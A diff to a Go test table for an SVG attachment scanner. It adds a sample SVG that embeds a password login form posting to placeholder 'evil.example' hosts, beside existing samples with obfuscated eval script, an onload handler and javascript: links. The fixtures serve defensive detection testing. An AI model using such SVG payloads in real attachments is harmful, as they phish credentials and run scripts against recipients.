@@ -30,6 +30,8 @@ func TestSVGAttachment(t *testing.T) {
 		{"a script hiding its URL", svgType, `<svg><script type="text/javascript">eval(atob("d2luZG93"))</script></svg>`, nil, true},
 		{"an event handler", svgType, `<svg onload="go()"><circle r="4"/></svg>`, nil, true},
 		{"a javascript: link", svgType, `<svg><a href="javascript:go()"><text>Open</text></a></svg>`, nil, true},
+		{"a login form drawn inside the image", svgType, `<svg><foreignObject width="300" height="200"><form xmlns="http://www.w3.org/1999/xhtml" action="https://collect.evil.example/p" method="post"><input name="pw" type="password"/><button formaction="https://alt.evil.example/p">Sign in</button></form><iframe src="https://frame.evil.example/"></iframe></foreignObject></svg>`,
+			[]string{"collect.evil.example", "alt.evil.example", "frame.evil.example"}, false},
 		{"a plain logo", svgType, `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><path d="M0 0h9v9z"/><a href="#top"/></svg>`, nil, false},
 		{"a .svg file sent as octet-stream", "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"Invoice.SVG\"",
 			`<svg><a href="https://o.evil.example/"><text>Open</text></a></svg>`, []string{"o.evil.example"}, false},
